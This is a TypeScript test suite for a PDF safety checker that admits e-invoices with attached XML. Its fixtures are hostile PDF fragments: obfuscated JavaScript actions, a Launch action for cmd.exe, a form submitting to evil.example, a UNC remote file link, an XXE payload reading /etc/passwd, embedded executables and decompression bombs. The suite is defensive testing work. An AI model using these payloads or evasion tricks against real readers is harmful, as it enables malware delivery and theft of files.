import { deflateSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import PDFDocument from 'pdfkit';
import { rendered } from '../documents/pdf/pdf.testing.ts';
import { inspectPdf, looksLikePdf } from './inspect-pdf.ts';
import { packed, pdf, withFileInside } from './pdfs.testing.ts';

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';
const XML = Buffer.from('<?xml version="1.0" encoding="UTF-8"?><xbrl xmlns="http://www.xbrl.org/2003/instance"><total>128.50</total></xbrl>');
const said = (bytes: Buffer) => {
  const inspected = inspectPdf(bytes);
  return inspected.ok ? 'ok' : inspected.error.code;
};

describe('a PDF', () => {
  it('of pages only is taken: one written by hand, and one with everything that is harmless', async () => {
    expect(said(pdf())).toBe('ok');
    expect((await rendered(pdf()))[0]?.text).toBe('voucher');
    const links = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://inv-veri.chinatax.gov.cn)>>>>]';
    const outline = '<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>';
    expect(said(pdf({ page: links, catalog: '/OpenAction[3 0 R/Fit]/Outlines 6 0 R', more: [outline, '<</Title(a \\) \\( [ << b)/Parent 6 0 R/Dest[3 0 R/Fit]>>'] }))).toBe('ok');
  });

  it('with objects packed into one is taken, plain or deflated', () => {
    expect(said(pdf({ more: [packed('<</Type/Metadata/Note(/Launch in a string is a word)>>')] }))).toBe('ok');
    expect(said(pdf({ more: [packed('<</Type/Metadata>>', '', (bytes) => bytes)] }))).toBe('ok');
  });

  it('with XML inside, as an e-invoice for bookkeeping has it, is taken and known', () => {
    const facts = (changes: Parameters<typeof pdf>[0]) => inspectPdf(pdf(changes));
    expect(facts({})).toEqual({ ok: true, value: { carriesData: false } });
    expect(facts(withFileInside(XML))).toEqual({ ok: true, value: { carriesData: true } });
    expect(facts(withFileInside(Buffer.concat([Buffer.from('\ufeff'), XML]), '/Type/EmbeddedFile'))).toEqual({ ok: true, value: { carriesData: true } });
    const { catalog, more } = withFileInside(XML);
    expect(facts({ catalog: catalog!, more: [packed(more![0] as string), more![1]!] })).toEqual({ ok: true, value: { carriesData: true } });
    // Nothing leads to it, and it is in the file all the same.
    expect(facts({ more: withFileInside(XML).more! })).toEqual({ ok: true, value: { carriesData: true } });
  });

  const written = async (more: (document: PDFKit.PDFDocument) => void): Promise<Buffer> => {
    const document = new PDFDocument({ size: 'A4', compress: true });
    const chunks: Buffer[] = [];
    document.on('data', (chunk: Buffer) => chunks.push(chunk));
    document.text('voucher').addPage().text('second page');
    more(document);
    document.end();
    await new Promise((resolve) => document.on('end', resolve));
    return Buffer.concat(chunks);
  };

  it('that a program wrote is taken, with XML that it attached too, and with nothing else', async () => {
    expect(inspectPdf(await written(() => undefined))).toEqual({ ok: true, value: { carriesData: false } });
    expect(inspectPdf(await written((document) => document.file(XML, { name: 'invoice.xml', type: 'text/xml' })))).toEqual({ ok: true, value: { carriesData: true } });
    expect(said(await written((document) => document.file(Buffer.from('MZ'), { name: 'invoice.xml', type: 'text/xml' })))).toBe('FILE_NOT_A_PDF');
  });

  it.each<{ readonly what: string; readonly bytes: Buffer }>([
    { what: 'a script when it opens', bytes: pdf({ catalog: `/OpenAction${SCRIPT}` }) },
    { what: 'a script on a page', bytes: pdf({ page: `/AA<</O${SCRIPT}>>` }) },
    { what: 'a script whose name is spelled in numbers', bytes: pdf({ catalog: '/OpenAction<</S/J#61v#61#53cript/#4aS(app.alert(1))>>' }) },
    { what: 'a script in a table of names', bytes: pdf({ catalog: '/Names<</JavaScript 6 0 R>>', more: ['<</Names[(a)<</S/JavaScript/JS(1)>>]>>'] }) },
    { what: 'a script in an object that nothing points to', bytes: pdf({ more: [SCRIPT] }) },
    { what: 'a script in packed objects', bytes: pdf({ more: [packed(SCRIPT)] }) },
    { what: 'a script in packed objects of no type', bytes: pdf({ more: [{ dictionary: '/N 1/First 5/Filter/FlateDecode', bytes: deflateSync(Buffer.from(`20 0 ${SCRIPT}`)) }] }) },
    { what: 'a script in packed objects that call themselves a picture', bytes: pdf({ more: [{ dictionary: '/Subtype/Image/#4e 1/F#69rst 5/Filter[/FlateDecode]', bytes: deflateSync(Buffer.from(`20 0 ${SCRIPT}`)) }] }) },
    { what: 'packed objects that are not deflated but something else', bytes: pdf({ more: [packed(SCRIPT, '/Filter/ASCIIHexDecode', (bytes) => Buffer.from(`${bytes.toString('hex')}>`))] }) },
    { what: 'packed objects that are deflated twice', bytes: pdf({ more: [packed(SCRIPT, '/Filter[/FlateDecode/FlateDecode]', (bytes) => deflateSync(deflateSync(bytes)))] }) },
    { what: 'packed objects behind a predictor', bytes: pdf({ more: [packed(SCRIPT, '/Filter/FlateDecode/DecodeParms<</Predictor 12>>')] }) },
    { what: 'packed objects that are torn', bytes: pdf({ more: [packed(SCRIPT, '/Filter/FlateDecode', (bytes) => deflateSync(bytes).subarray(0, 10))] }) },
    { what: 'a script behind a comment between its numbers', bytes: pdf({ more: ['<<>>\nendobj\n9%x\n0%y\nobj<</S/JavaScript/JS(1)>>'] }) },
    { what: 'a script hidden behind a bracket that never closes', bytes: pdf({ more: ['((((', SCRIPT] }) },
    { what: 'a program to start', bytes: pdf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' }) },
    { what: 'a file to open elsewhere', bytes: pdf({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>' }) },
    { what: 'a form that sends itself', bytes: pdf({ page: '/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>' }) },
    { what: 'an XFA form', bytes: pdf({ catalog: '/AcroForm<</XFA 6 0 R>>', more: [{ dictionary: '', bytes: Buffer.from('<xdp/>') }] }) },
    { what: 'a file inside', bytes: pdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a)6 0 R]>>>>', more: ['<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>', { dictionary: '/Type/EmbeddedFile', bytes: Buffer.from('MZ') }] }) },
    { what: 'a file inside that does not say so', bytes: pdf({ more: ['<</F(a.exe)/EF<</F 7 0 R>>>>', { dictionary: '', bytes: Buffer.from('MZ') }] }) },
    { what: 'a program inside', bytes: pdf(withFileInside(Buffer.from('MZ'))) },
    { what: 'a program inside that nothing leads to', bytes: pdf({ more: [{ dictionary: '/Type/EmbeddedFile', bytes: Buffer.from('MZ') }] }) },
    { what: 'a page of the web inside', bytes: pdf(withFileInside(Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'))) },
    { what: 'XML inside that has its reader fetch something', bytes: pdf(withFileInside(Buffer.from('<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'))) },
    { what: 'XML inside that is locked', bytes: pdf(withFileInside(XML, '/Type/EmbeddedFile/Filter/Crypt')) },
    { what: 'a file inside, named in an unusual way', bytes: pdf(withFileInside(XML, undefined, ' 8 0 R')) },
    { what: 'a file inside that is called something else', bytes: pdf(withFileInside(XML, undefined, '<</F 7 0 R/Mac 4 0 R>>')) },
    { what: 'a file inside that is no data, beside one that is', bytes: pdf({ ...withFileInside(XML), page: '/AF[<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>]' }) },
    { what: 'a second object under the number of its data', bytes: pdf({ ...withFileInside(XML), trailer: '/X(\n7 0 obj<<>>\nendobj)' }) },
    { what: 'a film', bytes: pdf({ page: '/Annots[<</Subtype/RichMedia>>]' }) },
    { what: 'a lock', bytes: pdf({ trailer: '/Encrypt 6 0 R', more: ['<</Filter/Standard/V 2/R 3>>'] }) },
    { what: 'no page', bytes: Buffer.from(pdf().toString('latin1').replace('/Type/Page/', '/Type/Pics/'), 'latin1') },
    { what: 'half of it', bytes: pdf().subarray(0, 300) },
    { what: 'a table of objects that is elsewhere', bytes: Buffer.from(pdf().toString('latin1').replace(/startxref\n\d+/, 'startxref\n7'), 'latin1') },
    { what: 'an archive behind it', bytes: Buffer.concat([pdf(), Buffer.from('PK\x03\x04')]) },
    { what: 'a page of the web before it', bytes: Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), pdf()]) },
    { what: 'a version that does not exist', bytes: pdf({ version: '9.9' }) },
    { what: 'nothing but its first line', bytes: Buffer.from('%PDF-1.7\n') },
  ])('with $what is refused', ({ bytes }) => {
    expect(said(bytes)).toBe('FILE_NOT_A_PDF');
  });

  it('that unpacks to more than it may, or makes one read the same bytes for ever, is refused and not read to the end', () => {
    expect(said(pdf({ more: [packed(' '.repeat(40 * 1024 * 1024))] }))).toBe('FILE_TOO_LARGE');
    expect(said(pdf({ more: ['0 0 obj['.repeat(200_000)] }))).toBe('FILE_NOT_A_PDF');
  });

  it('of whatever bytes is answered, and never by an exception', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 400 }), fc.nat(600), (noise, at) => {
      const whole = pdf();
      const spoiled = Buffer.concat([whole.subarray(0, at), Buffer.from(noise), whole.subarray(at)]);
      return ['ok', 'FILE_NOT_A_PDF', 'FILE_TOO_LARGE'].includes(said(spoiled));
    }));
  });

  it('is told by its first bytes', () => {
    expect([pdf(), Buffer.from('%PDF-2.0\r\n'), Buffer.from('%PDF-1.9\n'), Buffer.from(' %PDF-1.7\n'), Buffer.from('%PDF'), Buffer.alloc(0)].map(looksLikePdf)).toEqual([true, true, false, false, false, false]);
  });
});
